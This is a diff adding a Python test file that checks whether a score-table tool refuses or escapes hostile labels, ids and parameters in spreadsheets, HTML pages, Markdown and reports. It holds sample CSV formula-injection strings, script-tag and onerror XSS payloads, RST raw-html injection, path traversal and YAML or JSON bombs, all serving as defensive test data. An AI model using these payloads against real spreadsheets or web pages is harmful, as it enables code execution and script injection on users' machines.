@@ -1,0 +1,184 @@
+"""Labels, ids and rows of other people do no harm in a terminal, a spreadsheet or a page, or are refused."""
+
+import html
+import io
+import re
+from pathlib import Path
+
+import jinja2
+import pandas as pd
+import pytest
+from docutils.core import publish_parts
+from dvc_render.vega import VegaRenderer
+from hypothesis import given
+from hypothesis import strategies as st
+from scoretable.archive import open_archive
+from scoretable.errors import InputError
+from scoretable.experiments import find_experiment, list_experiments
+from scoretable.manifest import read_manifest
+from scoretable.score_table import read_score_table
+from scoretable.score_table_page import write_page
+from scoretable.score_table_text import write_csv, write_text
+from scoretable.submission import read_sample
+from scoretable.tables import refuse_harmful
+from unit.archives import competition, encode, leaves, make_zip, photo
+from unit.made_experiments import add_experiment, commit, git
+
+ROOT = Path(__file__).parents[2]
+ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]))
+
+
+HARMFUL = [
+    '=HYPERLINK("http://a.b?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1,2)",
+    " =IMPORTXML(A1)",
+    "\uff1dHYPERLINK(A1)",
+    "\t=1",
+    "\r=1",
+    "a\x1b[2Jb",
+    "a\x00b",
+    "a\nb",
+    "a\u2028b",
+    "</script><script>alert(1)</script>",
+    "<SCRIPT src=//a.b>",
+    "<!--",
+]
+HARMLESS = [
+    "-1", "+1", "-0.5", "-1e-5", "@home", "=", "+", "-", "=2", "-1 (bad)", "- none", "R&D", "a<b", "<5", "a > b", "a|b",
+    "<b>bold</b>", "f(x)", "hot!", "벼 도열병", "a\u3000b", "it's", 'a"b', "../../etc/passwd", "$(touch pwned)", "`a`",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", HARMFUL)
+def test_a_name_that_does_harm_where_it_is_shown_is_refused(name: str) -> None:
+    with pytest.raises(InputError, match=r"^train.csv, column label: 1 values (with|that)"):
+        refuse_harmful("train.csv", "label", ["blast", name])
+
+
+@pytest.mark.parametrize("name", HARMLESS)
+def test_a_name_that_competitions_have_is_taken(name: str) -> None:
+    refuse_harmful("train.csv", "label", [name])
+
+
+def quoted(text: str) -> bytes:
+    return ('"' + text.replace('"', '""') + '"').encode()
+
+
+@pytest.mark.parametrize("name", HARMFUL)
+@pytest.mark.parametrize("column", ["id", "label", "test id"])
+def test_a_harmful_cell_of_a_competition_is_refused(tmp_path: Path, name: str, column: str) -> None:
+    members = leaves()
+    picture = members["train_images/blast/0.jpg"]
+    if column == "label":
+        members["train.csv"] += b"".join(b"%d.jpg," % number + quoted(name) + b"\n" for number in (7, 8))
+        changed = competition(train={"table": "train.csv", "images": "train_images/{id}"})
+        members |= {f"train_images/{number}.jpg": picture for number in range(9)}
+    else:
+        table = "train.csv" if column == "id" else "sample_submission.csv"
+        members[table] += quoted(name) + b",blast\n"
+        pattern = {"images": "train_images/blast/0.jpg{id}"}
+        changed = competition(train={"table": "train.csv"} | pattern) if column == "id" else competition(test=pattern)
+    with open_archive(make_zip(tmp_path / "a.zip", members), tmp_path) as archive, pytest.raises(InputError) as caught:
+        read_manifest(archive, changed)
+    assert str(caught.value).isprintable()
+
+
+def test_a_class_that_only_splitting_reveals_is_refused(tmp_path: Path) -> None:
+    members = leaves()
+    members["train.csv"] = members["train.csv"].replace(b",blast", b",blast =HYPERLINK(A1)")
+    changed = competition(task="multilabel", train={"table": "train.csv", "images": "train_images/{id}"})
+    members |= {f"train_images/{number}.jpg": encode(photo(8, 8)) for number in range(6)}
+    with (
+        open_archive(make_zip(tmp_path / "a.zip", members), tmp_path) as archive,
+        pytest.raises(InputError, match="run"),
+    ):
+        read_manifest(archive, changed)
+
+
+def test_a_formula_in_any_column_of_the_sample_is_refused(tmp_path: Path) -> None:
+    sample = b"image_id,label,note\n100.jpg,,=HYPERLINK(A1)\n"
+    path = make_zip(tmp_path / "a.zip", leaves() | {"sample_submission.csv": sample})
+    with pytest.raises(InputError, match=r"sample_submission.csv, column note: 1 values that a spreadsheet would run"):
+        read_sample(path, competition().submission)
+
+
+def test_an_id_may_stand_twice_in_the_pattern_of_folders(tmp_path: Path) -> None:
+    members = leaves() | {f"t/{label}/{id_}/{id_}.jpg": b"" for label in "ab" for id_ in ("1", "2", "3")}
+    changed = competition(train={"label_column": None, "images": "t/{label}/{id}/{id}.jpg"})
+    with open_archive(make_zip(tmp_path / "a.zip", members), tmp_path) as archive:
+        assert len(read_manifest(archive, changed).train) == 6
+
+
+@given(st.lists(ANY_TEXT | st.sampled_from(HARMLESS), min_size=1))
+def test_dvcs_page_of_plots_keeps_the_names_that_are_taken_in_their_element(names: list[str]) -> None:
+    try:
+        refuse_harmful("train.csv", "label", names)
+    except InputError:
+        return
+    points = [{"actual": name, "predicted": name, "rev": "a"} for name in names]
+    page = VegaRenderer(points, "plot", x="actual", y="predicted", template="confusion").generate_html()
+    assert re.findall(r"</?script|<!--", page, re.IGNORECASE) == ["<script", "</script"]
+
+
+def test_the_page_shows_html_in_classes_ids_and_params_as_text(repository: Path) -> None:
+    attack = "<img src=x onerror=alert(1)>"
+    add_experiment(repository, "one", 0.6, 0.7, classes=("</script><script>alert(1)</script>", attack), archive=attack)
+    add_experiment(repository, "a<b>", 0.6, 0.7, scale=attack, reruns=8)
+    page = write_page(read_score_table(repository), repository)
+    assert page.count("<script") == 2
+    assert "<img" not in page
+    assert "<b>" not in page
+
+
+def test_markdown_shows_html_in_names_as_text(repository: Path) -> None:
+    add_experiment(repository, "a<img>|b", 0.6, 0.7)
+    assert "a&lt;img&gt;&#124;b" in write_text(read_score_table(repository), "github")
+
+
+def test_a_spreadsheet_takes_no_name_of_a_row_and_no_param_for_a_formula(repository: Path) -> None:
+    add_experiment(repository, "=cmd|'/c'!A0", 0.6, 0.7, weights="@SUM(1,2)")
+    lines = pd.read_csv(io.StringIO(write_csv(read_score_table(repository))), dtype=str, keep_default_na=False)
+    assert (lines["name"].iloc[-1], lines["weights"].iloc[-1]) == ("'=cmd|'/c'!A0", "'@SUM(1,2)")
+
+
+def test_a_report_shows_markup_in_params_as_text() -> None:
+    attack = (
+        "a\n\n.. raw:: html\n\n   <script>alert(1)</script>\n\n`` `b <javascript:alert(1)>`__ ``\u2028.. raw:: html"
+    )
+    template = jinja2.Template((ROOT / "workflow/report/row.rst").read_text())
+    text = template.render(snakemake={"config": {"params": {"archive": attack, "epochs": 5}}})
+    page = publish_parts(text, writer="html")["body"]
+    assert "<script" not in page
+    assert "href" not in page
+    assert "epochs: 5" in html.unescape(page)
+
+
+@pytest.mark.parametrize(
+    ("path", "content"),
+    [
+        ("params.yaml", "a: &a [*a]"),
+        ("params.yaml", b"\xff\xfe"),
+        ("models/score.json", "[" * 100_000),
+        ("models/score.json", "[1]"),
+        ("models/score.json", b"\xff"),
+    ],
+)
+def test_a_hostile_row_is_refused_by_its_name(repository: Path, path: str, content: str | bytes) -> None:
+    add_experiment(repository, "bad", 0.6)
+    baseline = git(repository, "rev-parse", "HEAD")
+    (repository / "models").mkdir(exist_ok=True)
+    (repository / path).write_bytes(content if isinstance(content, bytes) else content.encode())
+    git(repository, "update-ref", f"refs/exps/{baseline[:2]}/{baseline[2:]}/bad", commit(repository))
+    with pytest.raises(InputError, match=f"^{path} of row bad "):
+        list_experiments(repository)
+
+
+def test_a_lock_cannot_lead_out_of_the_cache(repository: Path) -> None:
+    add_experiment(repository, "one", 0.6)
+    lock = "stages:\n  a:\n    outs:\n    - path: models/history.csv\n      md5: ../../../../../params.yaml\n"
+    experiment = find_experiment(repository, "one")
+    with pytest.raises(InputError, match="is no MD5"):
+        type(experiment)(**{**vars(experiment), "lock": lock}).cached("models/history.csv")
